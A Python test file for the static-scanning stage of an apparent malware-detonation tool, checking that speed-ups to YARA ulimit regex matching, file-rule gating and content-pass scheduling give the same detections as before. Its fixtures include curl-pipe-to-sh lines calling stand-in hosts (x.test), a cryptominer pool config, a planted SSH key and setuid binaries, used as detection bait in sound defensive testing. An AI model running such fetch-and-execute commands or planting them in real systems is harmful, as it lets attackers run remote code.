"""What the static stage's speed-ups must not change: the rewritten ulimit regex matches what the
old one matched, the file rules' memoised gates find what evaluating every rule on every entry
finds, the size class picked by bisection is the one the linear search picked, and host paths as
text name the files `host_path` names. Also: the content pass hands out its largest work first."""

from __future__ import annotations

import re
from pathlib import Path

import pytest
import yara_x

from detonate.model.filesystem import FileEntry, FileType, Rootfs
from detonate.model.options import StaticOptions
from detonate.progress import NullProgress
from detonate.rules.loader import load_rules
from detonate.static import content_pass, files
from detonate.static.content_pass import ContentResults, _tasks, content_results
from detonate.static.files import FileIndexAnalyzer
from detonate.static.yara_rules import compiled_rules
from static.rootfs_builder import SampleFile, build_rootfs, make_image

OLD_ULIMIT = r"/ulimit[ \t]+-n[ \t]+[0-9]{5,}/"
ULIMIT_TEXTS = [
    b"ulimit -n 65535\n",
    b"ulimit -n 1024\nulimit -n 12345678901234567890 &&",
    b"ulimit\t-n\t\t99999;ulimit  -n   100000\n",
    b"ulimit -n 1234 5\nulimit -n 0000000\x00ulimit -n 12345",
    b"#!/bin/sh\nulimit -n 655350 2>/dev/null; ulimit -n 6553",
    bytes(range(256)) * 4 + b"ulimit -n 99999" + bytes(range(256)),
]


def _ulimit_pattern() -> str:
    source = next(r.source for r in load_rules("static") if r.meta.id == "kinsing-style-setup")
    found = re.search(r"^\s*\$ulimit = (/.*/)\s*$", source, re.MULTILINE)
    assert found is not None
    return found.group(1)


def _matches(pattern: str, data: bytes) -> list[tuple[int, int]]:
    compiler = yara_x.Compiler()
    compiler.add_source(f"rule r {{ strings: $a = {pattern} condition: $a }}")
    scanner = yara_x.Scanner(compiler.build())
    return [
        (m.offset, m.length)
        for rule in scanner.scan(data).matching_rules
        for p in rule.patterns
        for m in p.matches
    ]


@pytest.mark.parametrize("text", ULIMIT_TEXTS)
def test_ulimit_regex_matches_what_the_old_one_matched(text: bytes) -> None:
    new = _ulimit_pattern()
    assert new != OLD_ULIMIT  # the rule file holds the rewritten pattern
    assert _matches(new, text) == _matches(OLD_ULIMIT, text)


def test_ulimit_regex_finds_five_digits_or_more_only() -> None:
    new = _ulimit_pattern()
    assert _matches(new, b"ulimit -n 1234") == []
    assert _matches(new, b"ulimit -n 12345") == [(0, 15)]
    assert _matches(new, b"x ulimit \t-n 1234567 y") == [(2, 18)]


GATE_FILES = [
    SampleFile("/tmp/.x/miner", b"\x7fELF\x02\x01\x01", 0o755),
    SampleFile("/tmp/run.sh", b"#!/bin/sh\necho hi\n", 0o755),
    SampleFile("/usr/local/bin/helper", b"#!/bin/sh\n", 0o4755),
    SampleFile("/etc/cron.d/job", b"* * * * * root curl -s http://x.test/a | sh\n"),
    SampleFile("/opt/app/.env", b"API_TOKEN=Zq81kPw0RtY7uXa2\n"),
    SampleFile("/root/.ssh/authorized_keys", b"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIfake k\n"),
    SampleFile("/usr/bin/xmrig", b"\x7fELF", 0o755),
    SampleFile("/srv/link", type=FileType.SYMLINK, link_target="/tmp/run.sh"),
    SampleFile("/var/tmp/tool", b"data", 0o700),
    SampleFile("/home/u/.cache/x", b"data", 0o755),
]


def test_file_rule_gates_find_what_every_rule_on_every_entry_finds(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    options = StaticOptions()
    gated = FileIndexAnalyzer().analyze(
        make_image(), build_rootfs(tmp_path / "a", GATE_FILES), options, NullProgress()
    )
    monkeypatch.setattr(files._Gates, "admits", staticmethod(lambda tests, values: True))
    ungated = FileIndexAnalyzer().analyze(
        make_image(), build_rootfs(tmp_path / "b", GATE_FILES), options, NullProgress()
    )
    assert gated.findings == ungated.findings
    assert len({f.rule_id for f in gated.findings}) >= 4  # the sample trips several rules


def test_size_class_by_bisection_is_the_linear_choice() -> None:
    compiled = compiled_rules()
    bounds = sorted({b for b, _, _ in compiled.sources if b is not None})
    assert bounds  # the built-in rules have size bounds
    sizes = {0, 1, *bounds, *(b - 1 for b in bounds), *(b + 1 for b in bounds), 1 << 40}
    for size in sorted(sizes):
        limit = next((b for b in bounds if size < b), 0)
        kept = {o for b, _, o in compiled.sources if b is None or size < b}
        rules = compiled.for_size(size)
        assert (rules is None) == (not kept), size
        assert compiled._classes[limit] is rules, size


def test_host_path_text_names_what_host_path_names(tmp_path: Path) -> None:
    entry = FileEntry("/usr/bin/env", 1, "sha256:x", FileType.FILE, 1, 0o755, 0, 0)
    layered = Rootfs(
        root=tmp_path / "l1", entries=(entry,), layer_dirs=(tmp_path / "l0", tmp_path / "l1")
    )
    merged = Rootfs(root=tmp_path / "merged", entries=(entry,))
    for rootfs in (layered, merged):
        assert rootfs.host_path_text(entry) == str(rootfs.host_path(entry))
    assert layered.host_path_text(entry) == f"{tmp_path}/l1/usr/bin/env"


def test_the_content_pass_hands_out_its_largest_work_first(tmp_path: Path) -> None:
    sizes = [10, 5000, 70, 300_000, 1]
    rootfs = build_rootfs(
        tmp_path,
        [SampleFile(f"/data/f{i}", bytes([65 + i]) * size) for i, size in enumerate(sizes)],
    )
    by_key = {content_pass.content_key(e): e for e in rootfs.entries if e.type is FileType.FILE}
    tasks = _tasks(rootfs, by_key, {}, ContentResults(), 1 << 20)
    assert [t.read_bytes for t in tasks] == sorted(sizes, reverse=True)


def test_a_pass_that_fails_before_handing_out_its_work_does_not_hold_up_the_stage(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The stage waits for the content pass to hand its work to the workers; a pass that
    fails first must release it, and its error comes out where the results are read."""

    def broken(extra_dir: Path | None = None) -> None:
        raise RuntimeError("rules broke")

    monkeypatch.setattr(content_pass, "compiled_rules", broken)
    rootfs = build_rootfs(tmp_path, [SampleFile("/opt/a.sh", b"#!/bin/sh\n")])
    options = StaticOptions()
    content_pass.start_content_pass(rootfs, options, NullProgress())  # returns: no hang
    with pytest.raises(RuntimeError, match="rules broke"):
        content_pass.content_results(rootfs, options, NullProgress())


def test_a_pass_started_in_the_background_finds_what_one_run_in_place_finds(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(content_pass, "IN_PROCESS_BYTES", 0)
    monkeypatch.setattr(content_pass, "IN_PROCESS_FILES", 0)
    monkeypatch.setattr(content_pass, "WORKERS", 2)
    samples = [
        SampleFile("/opt/run.sh", b"#!/bin/sh\ncurl -fsSL http://x.test/a.sh | sh\n", 0o755),
        SampleFile("/opt/pool.conf", b"pool=stratum+tcp://pool.test:3333\n"),
        SampleFile("/opt/big.bin", b"\x00" * 300_000 + b"http://198.51.100.7/x"),
    ]
    options = StaticOptions()
    in_place = content_results(build_rootfs(tmp_path / "a", samples), options, NullProgress())
    rootfs = build_rootfs(tmp_path / "b", samples)
    content_pass.start_content_pass(rootfs, options, NullProgress())
    background = content_results(rootfs, options, NullProgress())
    assert background.yara == in_place.yara and background.iocs == in_place.iocs
    assert background.scanned == in_place.scanned == 3
    assert any(background.yara.values()) and any(f.found for f in background.iocs.values())
